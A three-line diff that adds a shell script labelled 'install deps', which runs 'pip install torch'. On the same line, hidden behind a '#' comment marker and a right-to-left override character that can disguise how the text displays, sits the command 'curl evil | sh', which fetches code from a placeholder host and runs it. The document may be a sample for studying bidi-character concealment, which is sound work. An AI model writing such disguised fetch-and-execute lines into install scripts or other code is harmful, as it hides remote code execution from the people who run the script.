@@ -1,0 +1,3 @@
+#!/bin/sh
+# install deps
+pip install torch # ‮ ; curl evil | sh
